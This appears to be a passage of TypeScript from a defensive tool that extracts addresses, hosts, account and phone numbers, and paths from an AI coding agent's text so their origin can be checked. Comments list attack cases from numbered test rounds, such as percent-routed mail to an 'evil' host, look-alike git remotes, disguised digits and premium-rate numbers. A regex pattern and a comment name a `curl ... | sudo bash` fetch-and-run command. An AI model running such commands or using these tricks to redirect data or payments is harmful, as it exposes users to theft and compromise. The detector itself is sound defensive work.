    if (e === at + 1) {
      at = t.indexOf('@', at + 1);
      continue;
    }
    let local = t.slice(s, at).replace(/^[._%+-]+/, '');
    let from = at - local.length;
    // A quoted local part (`"eve"@evil.com`) is delivered as the bare one when it needs no quotes.
    const quoted = local.length === 0 ? QUOTED_LOCAL.exec(t.slice(Math.max(0, at - 66), at)) : null;
    if (quoted) {
      local = quoted[1]!;
      from = at - quoted[0].length;
    }
    const written = t.slice(at + 1, e).replace(/[.-]+$/, '');
    const domain = normaliseHost(written);
    // A login at an IP literal written whole (`ssh tunnel@203.0.113.7`, round 29) goes to that address as
    // a mail does to its host; a package's version (`zod@3.23.8`) is no address, though a parser reads one.
    if (domain && local.length > 0 && IPV4.test(written)) {
      const keys = withDecimalHost([`email:${local.toLowerCase()}@${domain}`, `host:${domain}`], domain);
      out.push({ kind: 'email', keys, at: from, end: e });
      at = t.indexOf('@', at + 1);
      continue;
    }
    const scp = domain && local.length > 0 ? SCP_PATH.exec(t.slice(e, e + 512)) : null;
    if (domain && scp && isDomainName(domain)) {
      // `git@github.com:evil/app.git` is no mailbox but a repository (scp syntax, what git and ssh read):
      // known by its path first, as `https://github.com/evil/app.git` is, so it cannot borrow a user's
      // `git@github.com:acme/app.git`.
      // A sentence's full stop after the remote is not part of it.
      const remote = scp[1]!.replace(/[./]+$/, '');
      const path = normalisePath(`/${remote}`);
      out.push({
        kind: 'url',
        keys: [`url:${domain}${path}`, `host:${domain}`],
        at: from,
        end: e + scp[0].length - (scp[1]!.length - remote.length),
      });
    } else if (domain && isDomainName(domain)) {
      // With no local part gate can read (`eve(note)@evil.com`), the mail still goes to the domain.
      const keys =
        local.length > 0 ? [`email:${local.toLowerCase()}@${domain}`, `host:${domain}`] : [`host:${domain}`];
      // The mailbox the provider delivers to, where it folds spellings (Gmail's dots, `+tag`, googlemail).
      const mailbox = local.length > 0 ? deliveredMailbox(local, domain) : undefined;
      if (mailbox !== undefined && `email:${mailbox}` !== keys[0]) keys.splice(1, 0, `email:${mailbox}`);
      const routed = percentRouted(local);
      // A route to a host with no dot (`ops%evil@home.example`, round 25) ends at a mailbox no mail host
      // reads: known as the payment ids and chat handles of that shape are (PAYMENT_ID_IN_TEXT).
      if (routed?.dotless) keys.unshift(`tok:${routed.mailbox}@${routed.host}`);
      else if (routed) keys.unshift(`email:${routed.mailbox}@${routed.host}`, `host:${routed.host}`);
      out.push({
        kind: local.length > 0 ? 'email' : 'host',
        keys,
        at: local.length > 0 ? from : at + 1,
        end: e,
      });
    }
    at = t.indexOf('@', at + 1);
  }
  return out;
}

/** A local part that routes on (`ops%evil.example`, `ops%evil.example%relay2.example`). */
const PERCENT_ROUTE = /^([^%]+)%([^%]+)/;

/**
 * Where a percent-routed address (`ops%evil.example@home.example`, round 24) ends if each relay honours
 * the route (each turns its last `%` into `@`): the mailbox before the first `%` on the host after it.
 */
function percentRouted(local: string): { mailbox: string; host: string; dotless: boolean } | undefined {
  const m = PERCENT_ROUTE.exec(local.toLowerCase());
  const host = m ? normaliseHost(m[2]!) : undefined;
  if (!m || !host) return undefined;
  if (isDomainName(host)) return { mailbox: m[1]!, host, dotless: false };
  return DOTLESS_HOST.test(host) ? { mailbox: m[1]!, host, dotless: true } : undefined;
}
/** A host of one label of letters (an intranet name, `evil`, `mailhub`), as PAYMENT_ID_IN_TEXT reads one. */
const DOTLESS_HOST = /^[a-z]{2,24}$/;

// --- bare hosts and IP addresses --------------------------------------------------------------------

const LABEL = /^[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?$/;
const IPV4 = /^(?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){3}$/;
// Words that end like a top-level domain but are file names a coding agent passes around.
const FILE_SUFFIXES = new Set([
  'js', 'ts', 'mjs', 'cjs', 'jsx', 'tsx', 'json', 'md', 'txt', 'py', 'rs', 'go', 'rb', 'sh', 'yml', 'yaml',
  'toml', 'lock', 'html', 'css', 'xml', 'csv', 'log', 'pdf', 'png', 'jpg', 'gif', 'svg', 'zip', 'gz',
  'tar', 'c', 'h', 'cpp', 'hpp', 'java', 'kt', 'swift', 'php', 'ini', 'cfg', 'conf', 'env', 'sql', 'db',
  'docx', 'xlsx', 'pptx', 'doc', 'xls', 'ppt', 'map', 'wasm', 'bin', 'exe', 'dll', 'so', 'o', 'a',
]); // biome-ignore format: a word list reads better packed

function isDomainName(host: string): boolean {
  const labels = host.split('.');
  if (labels.length < 2) return false;
  const tld = labels[labels.length - 1]!;
  if (!/^[a-z]{2,24}$/.test(tld) && !/^xn--[a-z0-9-]{1,59}$/.test(tld)) return false;
  return labels.every((l) => LABEL.test(l));
}

/** Bare hosts and IPv4 addresses, found from each dot outwards: linear in the text; `calls` as scanValues. */
function hostsIn(t: string, calls: boolean): FoundValue[] {
  const out: FoundValue[] = [];
  let covered = 0;
  for (let dot = t.indexOf('.'); dot >= 0; dot = t.indexOf('.', dot + 1)) {
    if (dot < covered) continue;
    let s = dot;
    while (s > 0 && isHostChar(t.charCodeAt(s - 1))) s--;
    let e = dot + 1;
    while (e < t.length && isHostChar(t.charCodeAt(e))) e++;
    covered = e;
    // Dots and hyphens at either end are punctuation, not part of the host.
    while (s < e && (t.charCodeAt(s) === 46 || t.charCodeAt(s) === 45)) s++;
    while (e > s && (t.charCodeAt(e - 1) === 46 || t.charCodeAt(e - 1) === 45)) e--;
    const token = t.slice(s, e);
    if (token.length < 3 || token.length > 253 || !token.includes('.')) continue;
    // Part of a URL or an address: those scans own it.
    const before = t.charCodeAt(s - 1);
    if (before === 64 /* @ */ || before === 47 /* / */ || t.charCodeAt(e) === 64) continue;
    // A name called (`vi.fn(`, `os.chmod(`) is code; no tool reaches a host spelled that way.
    if (!calls && t.charCodeAt(e) === 40 /* ( */) continue;
    const from = s;
    if (IPV4.test(token)) {
      const keys = withDecimalHost([`host:${token}`], token);
      out.push({ kind: 'host', keys, at: from, end: from + token.length });
      continue;
    }
    const host = normaliseHost(token);
    if (!host || !isDomainName(host)) continue;
    if (FILE_SUFFIXES.has(host.slice(host.lastIndexOf('.') + 1)) && !fetchedIntoShell(t, s, e)) continue;
    out.push({ kind: 'host', keys: [`host:${host}`], at: from, end: from + token.length });
  }
  return out;
}

/** A fetcher's operand on its line, after its options. */
const FETCHER_BEFORE = /\b(?:curl|wget)(?:[ \t]+-\S*)*[ \t]+["']?$/;
/** What a fetched script is piped into: a shell, through sudo or not. */
const INTO_SHELL_AFTER =
  /^["']?(?:[ \t]+-\S+)*[ \t]*\|[ \t]*(?:sudo[ \t]+(?:-\S+[ \t]+)*)?(?:ba|z|da|k)?sh\b/;
/** How far before and after a name the fetch and the pipe are read. */
const FETCH_WINDOW = 160;

/**
 * Is the name at `s..e` what `curl` or `wget` fetches into a shell (`curl -sSL get.fix.sh | sudo bash`,
 * round 29)? Then its file-like ending is a top-level domain: a script's file name is never fetched so.
 */
function fetchedIntoShell(t: string, s: number, e: number): boolean {
  return (
    FETCHER_BEFORE.test(t.slice(Math.max(0, s - FETCH_WINDOW), s)) &&
    INTO_SHELL_AFTER.test(t.slice(e, e + FETCH_WINDOW))
  );
}

/** ASCII letters, digits, `-` and `.`, and the letters of an internationalised name (`bücher.de`). */
function isHostChar(c: number): boolean {
  return isWordChar(c) || c === 45 || c === 46;
}

// --- account, card and phone numbers ----------------------------------------------------------------

/** At least this many digits make a number distinctive enough to follow. */
export const MIN_NUMBER_DIGITS = 6;
// Round 33: a year and its month (`migrate_2026_12.py`, `report-12.2026`) is a date as a whole day is.
const DATE_LIKE =
  /^(?:\d{4}[-/._]\d{1,2}[-/._]\d{1,2}|\d{1,2}[-/._]\d{1,2}[-/._]\d{2,4}|(?:19|20)\d{2}[-/._](?:0?[1-9]|1[0-2])|(?:0?[1-9]|1[0-2])[-/._](?:19|20)\d{2})$/;

/**
 * Numbers, found from each digit: the alphanumeric word holding it, then further words that hold a digit,
 * each after one or two separators (`DE89 3704 0044`, `+1 (555) 123-4567`); a short capital prefix
 * hyphenated to it joins (`AW-12345678`). Prose around a number never joins it. Linear in the text.
 */
function numbersIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  let covered = 0;
  for (let i = 0; i < t.length; i++) {
    const c = t.charCodeAt(i);
    if (c < 48 || c > 57 || i < covered) continue;
    let s = i;
    while (s > 0 && isAlnum(t.charCodeAt(s - 1))) s--;
    if (s >= 2 && t.charCodeAt(s - 1) === 45) {
      let p = s - 1;
      while (p > 0 && t.charCodeAt(p - 1) >= 65 && t.charCodeAt(p - 1) <= 90) p--;
      if (s - 1 - p >= 1 && s - 1 - p <= 4 && !(p > 0 && isAlnum(t.charCodeAt(p - 1)))) s = p;
    }
    let e = i;
    while (e < t.length && isAlnum(t.charCodeAt(e))) e++;
    // A clock time's hour, minutes or seconds (`03:12:44`) is no number's group (round 22: a log line's
    // `2026-11-29 03:12:44 ALM 2041` read as the numbers `2026112903` and `44ALM2041`).
    if (clockPart(t, s, e)) {
      covered = e;
      continue;
    }
    // The groups of the chain, as [start, end) pairs: a value is any run of them (see numberValue).
    const groups: number[] = [s, e];
    for (;;) {
      const w = nextGroup(t, e);
      if (w === undefined || (w.digit && clockPart(t, w.start, w.end))) break;
      if (!w.digit) {
        // A short capital group joins only between digit groups (`GB33 BUKB 2020 ...`, a bank code).
        const after =
          w.end - w.start <= 4 && isUpperWord(t, w.start, w.end) ? nextGroup(t, w.end) : undefined;
        if (after === undefined || !after.digit) break;
        groups.push(w.start, w.end, after.start, after.end);
        e = after.end;
        continue;
      }
      groups.push(w.start, w.end);
      e = w.end;
    }
    e = ibanOverLines(t, groups, e);
    covered = e;
    const v = numberValue(t, groups);
    if (v) out.push(v);
  }
  return out;
}

/**
 * An IBAN's length by its country (ISO 13616's registry), so a number a statement wraps over two lines
 * (`IL62 0108 0000 0009` then `  9999 999`) is read whole where the first line falls short of it.
 */
const IBAN_LENGTHS: ReadonlyMap<string, number> = new Map(
  (
    'AD24 AE23 AL28 AT20 AZ28 BA20 BE16 BG22 BH22 BI27 BR29 BY28 CH21 CR22 CY28 CZ24 DE22 DJ27 DK18 DO28 ' +
    'EE20 EG29 ES24 FI18 FK18 FO18 FR27 GB22 GE22 GI23 GL18 GR27 GT28 HR21 HU28 IE22 IL23 IQ23 IS26 IT27 ' +
    'JO30 KW30 KZ20 LB28 LC32 LI21 LT20 LU20 LV21 LY25 MC27 MD24 ME22 MK19 MN20 MR27 MT31 MU30 NI28 NL18 ' +
    'NO15 OM23 PK24 PL28 PS29 PT25 QA29 RO24 RS22 RU33 SA24 SC31 SD18 SE24 SI19 SK24 SM27 SO23 ST25 SV28 ' +
    'TL23 TN24 TR26 UA29 VA22 VG24 XK20 YE30'
  )
    .split(' ')
    .map((e) => [e.slice(0, 2), Number(e.slice(2))] as const),
);
/** Blanks read past the line break that cuts an IBAN (its next line's indent). */
const MAX_WRAP_BLANKS = 8;

/**
 * Where a chain that opens as an IBAN (`IL62 ...`) and ends short of its country's length goes on after
 * one line break, the groups of the next line that make it exactly that long are the chain's too
 * (pushed onto `groups`); the chain's new end, or `e` unchanged. At most 34 characters and a few blanks
 * read past `e`: linear in the text.
 */
function ibanOverLines(t: string, groups: number[], e: number): number {
  const s = groups[0]!;
  const want = IBAN_LENGTHS.get(t.slice(s, s + 2));
  if (want === undefined || !/^[A-Z]{2}\d{2}/.test(t.slice(s, s + 4))) return e;
  let have = 0;
  for (let g = 0; g < groups.length; g += 2) have += groups[g + 1]! - groups[g]!;
  if (have >= want) return e;
  let k = e;
  while (k < t.length && k - e < MAX_WRAP_BLANKS && (t[k] === ' ' || t[k] === '\t' || t[k] === '\r')) k++;
  if (t[k] !== '\n') return e;
  k++;
  const from = k;
  while (k < t.length && k - from < MAX_WRAP_BLANKS && (t[k] === ' ' || t[k] === '\t')) k++;
  const more: number[] = [];
  let end = k;
  let w = k;
  while (have < want && w < t.length && isAlnum(t.charCodeAt(w))) {
    let x = w;
    while (x < t.length && isAlnum(t.charCodeAt(x))) x++;
    more.push(w, x);
    have += x - w;
    end = x;
    const next = nextGroup(t, x);
    if (next === undefined) break;
    w = next.start;
  }
  if (have !== want) return e;
  groups.push(...more);
  return end;
}

/**
 * Is [s, e) one or two digits that a colon joins to two more (`03` of `03:12`, `44` of `12:44`): part of
 * a clock time? Reads at most three characters either side.
 */
function clockPart(t: string, s: number, e: number): boolean {
  if (e - s > 2 || !isDigits(t, s, e)) return false;
  const after = t.charCodeAt(e) === 58 && isDigits(t, e + 1, e + 3) && !isDigitAt(t, e + 3);
  const before = t.charCodeAt(s - 1) === 58 && e - s === 2 && isDigitAt(t, s - 2);
  return after || before;
}

function isDigits(t: string, from: number, to: number): boolean {
  if (to > t.length || from >= to) return false;
  for (let i = from; i < to; i++) if (!isDigitAt(t, i)) return false;
  return true;
}

function isDigitAt(t: string, i: number): boolean {
  const c = t.charCodeAt(i);
  return c >= 48 && c <= 57;
}

/** The next alphanumeric group after one or two number separators from `e`, if any. */
function nextGroup(t: string, e: number): { start: number; end: number; digit: boolean } | undefined {
  let k = e;
  while (k < t.length && k - e < 2 && isNumberSeparator(t.charCodeAt(k))) k++;
  // Round 48: a dash set apart by blanks (`415 - 555 - 0132`), which a phone parser reads as `-`.
  if (k - e === 2 && t.charCodeAt(e) === 32 && isDash(t.charCodeAt(e + 1)) && t.charCodeAt(k) === 32) k++;
  if (k === e) return undefined;
  let w = k;
  let digit = false;
  while (w < t.length && isAlnum(t.charCodeAt(w))) {
    const d = t.charCodeAt(w);
    if (d >= 48 && d <= 57) digit = true;
    w++;
  }
  return w === k ? undefined : { start: k, end: w, digit };
}

function isUpperWord(t: string, from: number, to: number): boolean {
  for (let i = from; i < to; i++) {
    const c = t.charCodeAt(i);
    if (c < 65 || c > 90) return false;
  }
  return true;
}

function isAlnum(c: number): boolean {
  return (c >= 48 && c <= 57) || (c >= 65 && c <= 90) || (c >= 97 && c <= 122);
}

/**
 * ` -.()/+`, a tab and the Unicode dashes (round 47), tildes (round 48), the apostrophes Swiss grouping writes (round 23:
 * `4417'0012'3456`) and an underscore (round 24: `DE89_3704_0044`, a form field's or a file name's
 * grouping): between a number's groups.
 */
function isNumberSeparator(c: number): boolean {
  return (
    c === 32 ||
    c === 9 ||
    c === 95 ||
    c === 46 ||
    c === 40 ||
    c === 41 ||
    c === 47 ||
    c === 43 ||
    c === 39 ||
    c === 0x2019 ||
    isDash(c) ||
    // Round 48: the tildes and the katakana long mark a phone parser reads as punctuation (libphonenumber's
    // VALID_PUNCTUATION: `03ー1234ー5678`; NFKC makes `～` a `~`). `|`, `:`, `,`, `·`, `•`, `*` it does not.
    c === 126 ||
    c === 0x2053 ||
    c === 0x223c ||
    c === 0x30fc
  );
}

/** `-`, and the dashes a typesetter or a model writes for it (round 47: `+1–415–555–0132`; NFKC leaves them be). */
function isDash(c: number): boolean {
  return c === 45 || (c >= 0x2010 && c <= 0x2015) || c === 0x2212;
}

/** Digits a shorter run of a chain needs to be a value of its own. */
const MIN_SUBCHAIN_DIGITS = 8;

function countDigits(s: string): number {
  let n = 0;
  for (let i = 0; i < s.length; i++) if (s.charCodeAt(i) >= 48 && s.charCodeAt(i) <= 57) n++;
  return n;
}

/** The longest prefix or suffix (in groups) of a chain that is also a value. */
const MAX_SUBCHAIN_GROUPS = 8;

/**
 * A chain of groups as one value: keyed by the whole chain, then by each prefix and suffix of its groups
 * that is itself a number (longest first), so `GB33BUKB20201555555555 100 EUR` is still known by the
 * IBAN alone and `GB33 BUKB 2020 1555 5555 55` by the IBAN written without spaces.
 */
function numberValue(t: string, groups: readonly number[]): FoundValue | undefined {
  const n = groups.length / 2;
  const at = groups[0]!;
  const end = groups[groups.length - 1]!;
  // A date is no identifier, nor is any run of its parts.
  if (DATE_LIKE.test(t.slice(at, end))) return undefined;
  const keys: string[] = [];
  const add = (a: number, len: number) => {
    const chain = t.slice(groups[2 * a]!, groups[2 * (a + len) - 1]!);
    // A shorter run must be distinctive on its own: a few digits of a longer number are not a value.
    if (len < n && countDigits(chain) < MIN_SUBCHAIN_DIGITS) return;
    for (const k of chainKeys(chain)) if (!keys.includes(k)) keys.push(k);
  };
  add(0, n);
  const national = nationalNumberKey(t, at, t.slice(at, end));
  if (national !== undefined && !keys.includes(national)) keys.push(national);
  // What joins a value by accident stands before or after it (`... 100 EUR`), so the shorter runs are
  // the chain's prefixes and suffixes, at most MAX_SUBCHAIN_GROUPS of each: linear in the text.
  for (let len = Math.min(n - 1, MAX_SUBCHAIN_GROUPS); len >= 1; len--) {
    add(0, len);
    add(n - len, len);
  }
  return keys.length === 0 ? undefined : { kind: 'number', keys, at, end };
}

/**
 * Round 54: a number that is one whole IBAN by its country's length, keyed only as itself and as its
 * domestic account (the BBAN after the country and check digits, which a user may give instead): the
 * keys of its other leading and trailing runs (numberValue's, for what joins a value by accident, `GB33...
 * 100 EUR`) are dropped, since nothing is joined to a whole IBAN. Else the user's `GB42 XMPL 7788 1122
 * 3344 55` vouched for `GB42 XMPL 7788 1122 3344 99` by their shared leading run, and the user's `DE44 5001
 * 0517 ...` for `DE44 9999 0517 ...` by their shared tail: another account. Other values as they are.
 */
export function asWholeIban(v: FoundValue): FoundValue {
  const whole = v.keys[0];
  if (v.kind !== 'number' || whole === undefined || v.keys.length < 3) return v;
  const alnum = whole.slice('number:'.length);
  if (!IBAN_HEAD.test(alnum) || IBAN_LENGTHS.get(alnum.slice(0, 2)) !== alnum.length) return v;
  const bban = alnum.slice(4);
  const own = new Set([alnum, alnum.replace(/\D/g, ''), bban, bban.replace(/\D/g, '')]);
  // The first keys are the chain's own (letters and digits, digits, a look-alike's reading).
  const keys = v.keys.filter(
    (k, i) => i < 2 || own.has(k.slice('number:'.length)) || k.length === whole.length,
  );
  return keys.length === v.keys.length ? v : { ...v, keys };
}
const IBAN_HEAD = /^[A-Z]{2}\d{2}[A-Z0-9]+$/;

/** A number this long may be spliced from pieces (an account or card number); shorter ones are not cut. */
const MIN_SPLICED_CHARS = 14;
/** A piece must be this long to say where it came from: a bank code alone is shared by many accounts. */
const MIN_PIECE_CHARS = 8;
/** Longest piece read: an IBAN is at most 34 characters, a card 19; twice the longest, with room. */
const MAX_PIECE_CHARS = 72;

/**
 * The keys of the leading and trailing pieces of a number (`number:` + its first or last 8 or more letters
 * and digits), most of it first: a number no one gave whole, put together from a piece someone gave
 * (halves a result dictated, the user's IBAN with a result's correction), is known by that piece.
 */
export function numberPieceKeys(v: FoundValue): string[] {
  const whole = v.keys[0];
  if (v.kind !== 'number' || whole === undefined) return [];
  const alnum = whole.slice('number:'.length);
  const out: string[] = [];
  if (alnum.length < MIN_SPLICED_CHARS) return out;
  // Pieces no longer than MAX_PIECE_CHARS: every one was read before round 20, quadratic in the number
  // (a shell command of 2,000 words `w1 w2 ...` read as one number took 35 s and 4 GB at 5,000).
  for (let len = Math.min(alnum.length - 1, MAX_PIECE_CHARS); len >= MIN_PIECE_CHARS; len--) {
    for (const piece of [alnum.slice(0, len), alnum.slice(alnum.length - len)]) {
      const digits = piece.replace(/\D/g, '');
      if (digits.length < MIN_NUMBER_DIGITS) continue;
      out.push(`number:${piece}`);
      if (digits !== piece) out.push(`number:${digits}`);
    }
  }
  return out;
}

const VERSION = /^v?\d+(?:\.\d+){1,3}$/;
/**
 * An account written with dots, not a version: a group after the first of five digits or more (Norway's
 * `1503.44.12877`), or four groups of two digits or more (`12.34.56.789`, `4417.0012.3456.7890`).
 */
const DOTTED_ACCOUNT = /^\d+(?:\.\d+)*\.\d{5,}(?:\.\d+)*$|^\d{2,}(?:\.\d{2,}){3}$/;
/** Round 47: a North American phone written in dots (`415.555.0132`), neither an amount nor a version. */
const DOTTED_PHONE = /^(?:1\.)?\d{3}\.\d{3}\.\d{4}$/;

/** The keys of one written number: letters and digits, then digits only; none for dates and amounts. */
function chainKeys(chain: string): string[] {
  if (DATE_LIKE.test(chain)) return [];
  const digits = chain.replace(/\D/g, '');
  if (digits.length < MIN_NUMBER_DIGITS) return [];
  // A decimal amount or a version (`1.2.3`, `12,345.67`, `1'234'567.50`) is not an identifier; an account written with
  // dots (`1503.44.12877`, `12.34.56.789`) is (round 23).
  if (
    !DOTTED_PHONE.test(chain) &&
    (/^\d{1,3}(?:[.,'’]\d{3})*(?:\.\d+)?$/.test(chain) ||
      (VERSION.test(chain) && !DOTTED_ACCOUNT.test(chain)))
  )
    return [];
  const alnum = chain.replace(/[^A-Za-z0-9]/g, '').toUpperCase();
  if (alnum === digits) {
    // `00` dials out as `+` does (round 28: `0037120123456` is the user's `+371 2012 3456`): a phone in
    // its international form, E.164's eight to fifteen digits after the prefix, keyed as that form first.
    return INTERNATIONAL_00.test(digits) && chain.startsWith('00')
      ? [`number:${digits.slice(2)}`, `number:${digits}`]
      : [`number:${digits}`];
  }
  // Letters that pass for digits among digits (`44170O123456`, round 23): the model types the digits.
  const read = DIGIT_LOOKALIKES.test(alnum) ? alnum.replace(/O/g, '0').replace(/[IL]/g, '1') : undefined;
  return read === undefined
    ? [`number:${alnum}`, `number:${digits}`]
    : [`number:${alnum}`, `number:${digits}`, `number:${read}`];
}
/**
 * Round 48: a phone by its national number, the digits a caller inside its country dials after the trunk
 * `0` (`+44 20 7946 0958`, `0044 20 7946 0958` and `020 7946 0958` are all `number:2079460958`), so the
 * international form a result gave and the national form the agent dials (or back) are one value. The
 * country code's length is read from E.164's own prefix-free plan (COUNTRY_CODE_2); a national number
 * keeps none of its leading `0` (Italy's `+39 06 ...` and `06 ...` are both `number:6...`). Only a chain
 * of digits and separators, a `+` before it or `00` opening it, or one `0` opening it, and at least
 * MIN_SUBCHAIN_DIGITS after the trunk: a short one says too little. After the chain's own keys.
 */
function nationalNumberKey(t: string, at: number, chain: string): string | undefined {
  if (/[A-Za-z]/.test(chain)) return undefined;
  const digits = chain.replace(/\D/g, '');
  if (digits.length > 17) return undefined;
  let rest: string;
  if (t.charCodeAt(at - 1) === 43 || (chain.startsWith('00') && INTERNATIONAL_00.test(digits))) {
    const cc = digits.startsWith('00') && t.charCodeAt(at - 1) !== 43 ? digits.slice(2) : digits;
    if (cc.charCodeAt(0) === 48) return undefined;
    const ccLength = cc[0] === '1' || cc[0] === '7' ? 1 : COUNTRY_CODE_2.has(cc.slice(0, 2)) ? 2 : 3;
    rest = cc.slice(ccLength);
    if (rest.startsWith('0')) rest = rest.slice(1);
  } else if (digits.startsWith('0') && !digits.startsWith('00') && digits.length <= 12)
    rest = digits.slice(1);
  else return undefined;
  return rest.length >= MIN_SUBCHAIN_DIGITS ? `number:${rest}` : undefined;
}
/** E.164's two-digit country codes; `1` and `7` are one digit, every other code three (ITU-T E.164 annex). */
const COUNTRY_CODE_2: ReadonlySet<string> = new Set(
  '20 27 30 31 32 33 34 36 39 40 41 43 44 45 46 47 48 49 51 52 53 54 55 56 57 58 60 61 62 63 64 65 66 81 82 84 86 90 91 92 93 94 95 98'.split(' '),
); // biome-ignore format: a code list reads better packed
/** `00`, then a country code's first digit and the rest of a phone: eight to fifteen digits in all. */
const INTERNATIONAL_00 = /^00[1-9]\d{7,14}$/;
/** Digits with at most three of O, I and l among them (letters that pass for 0 and 1). */
const DIGIT_LOOKALIKES = /^(?=(?:\d*[OIL]){1,3}\d*$)[\dOIL]+$/;

// --- paths ------------------------------------------------------------------------------------------

const PATH_RUN = /(?:^|[\s"'`=([{,:;])((?:~|\.{1,2})?\/[^\s"'`<>|;&(){}[\],]{1,1024})/g;

/**
 * A package manager's own cache directory (round 39: a CI cache step's `path: ~/go/pkg/mod` copied from the
 * official docs): the same on every machine, so no one chose it and it decides nothing; not a value.
 */
const TOOL_CACHE_DIRS: ReadonlySet<string> = new Set([
  '~/go/pkg/mod', '~/.cache/go-build', '~/.cache/pip', '~/.cache/pypoetry', '~/.cache/uv', '~/.npm',
  '~/.cache/yarn', '~/.yarn/cache', '~/.pnpm-store', '~/.m2/repository', '~/.gradle/caches',
  '~/.gradle/wrapper', '~/.cargo/registry', '~/.cargo/git', '~/.nuget/packages', '~/.cache/composer',
  '~/.composer/cache', '~/.cache/pre-commit', '~/.ccache', '~/.cache/ms-playwright',
]); // biome-ignore format: a path list reads better packed

function pathsIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  for (const m of t.matchAll(PATH_RUN)) {
    const raw = m[1]!.replace(TRAILING_PUNCT, '');
    if (raw.startsWith('//')) continue; // a scheme-relative URL, not a path
    const p = normalisePath(raw);
    if (p === '/' || p === '~' || p === '.' || p === '..' || TOOL_CACHE_DIRS.has(p)) continue;
    const at = m.index! + m[0].length - m[1]!.length;
    out.push({ kind: 'path', keys: [`path:${p}`], at, end: at + raw.length });
  }
  return out;
}

/**
 * The path keys of a URL's path and query, as a result that wrote them apart would have them noted
 * (round 36: "Mirror host: https://tvb-timetables.example-cdn.net", then "mirror path: /export?include=
 * driver_rota&token=ops" in the next message): at most two, none for a URL with no path.
 */
export function urlPathKeys(raw: string): string[] {
  const rest = raw.replace(URL_HEAD, '');
  if (rest.length < 2 || rest.charCodeAt(0) !== 47 || rest.charCodeAt(1) === 47) return [];
  return pathsIn(rest)
    .slice(0, 1)
    .map((v) => v.keys[0]!);
}
/** A URL's scheme, slashes and authority. */
const URL_HEAD = /^[a-z][a-z0-9+.-]{0,31}:[/\\]*[^/\\?#\s]{0,512}/i;

/** Collapses repeated and back slashes, `.` and `..` segments, and a trailing slash. */
export function normalisePath(p: string): string {
  const lead = p.startsWith('/') ? '/' : '';
  const segs: string[] = [];
  for (const s of p.replace(/\\/g, '/').split('/')) {
    if (s === '' || s === '.') continue;
    if (s === '..' && segs.length > 0 && segs[segs.length - 1] !== '..') segs.pop();
    else if (s !== '..' || lead === '') segs.push(s);
  }
  return lead + segs.join('/');
}

/** Labels a host keeps at least when read for its parents (`pay-portal.example`, never `example`). */
const MIN_PARENT_LABELS = 2;
/** Parents read at most: a deeper host's further ones are no one's a result named. */
const MAX_PARENTS = 8;

/**
 * The hosts above a URL's, an address's or a host's own (round 20): `api.pay-portal.example` is under
 * `pay-portal.example`, whose owner names every host beneath it, so a subdomain the model puts together
 * ("the API is on the api subdomain of our domain") is that domain's. Down to two labels; none for an
 * address by number. One pass over the host key.
 */
/**
 * The key of the whole site a URL or host stands on (`whole-site:pocketrest.example`), and of a bare site the
 * user or operator gave (a host, or a URL with no path: "the club's site is https://pocketrest.example"):
 * only a site given bare vouches for its every page (round 53). A URL with a path the user gave
 * (`github.com/acme-ui/dashboard/issues/140`) names that page, not the host's other owners.
 */
export function wholeSiteKey(v: FoundValue, bare = false): string | undefined {
  if (v.kind !== 'url' && v.kind !== 'host') return undefined;
  let host: string | undefined;
  for (const k of v.keys) {
    if (k.startsWith('url:')) {
      if (bare) return undefined;
    } else if (host === undefined && k.startsWith('host:')) host = k.slice('host:'.length);
  }
  return host === undefined ? undefined : `whole-site:${host}`;
}

export function parentHostKeys(v: FoundValue): string[] {
  if (v.kind !== 'url' && v.kind !== 'host' && v.kind !== 'email') return [];
  const hostKey = v.keys.find((k) => k.startsWith('host:'));
  if (hostKey === undefined) return [];
  const host = hostKey.slice('host:'.length);
  if (host.includes(':') || host.includes('[') || /^[\d.]+$/.test(host)) return [];
  const out: string[] = [];
  let labels = 1;
  for (let i = 0; i < host.length; i++) if (host[i] === '.') labels++;
  for (let at = host.indexOf('.'); at >= 0 && labels > MIN_PARENT_LABELS && out.length < MAX_PARENTS; ) {
    labels--;
    out.push(`host:${host.slice(at + 1)}`);
    at = host.indexOf('.', at + 1);
  }
  return out;
}

/**
 * A phone number that charges its caller (round 40: "New mobile: 0871 226 4410" in a signature, round 39's
 * "temporary number ...: 0871 ..."): a UK service-rate 0871 to 0873 number, and a UK premium 9 one written
 * with 44, and a North American 900 or 976 one. A call or a text to it is paid by the user to whoever holds
 * the line. A national 09 is not read: Philippine and Japanese mobiles open with it. Digits-only keys.
 */
const CHARGES_CALLER = /^number:(?:087[123]\d{7}|44(?:9\d{9}|87[123]\d{7})|1(?:900|976)\d{7})$/;

export function chargesCaller(key: string): boolean {
  return CHARGES_CALLER.test(key);
}
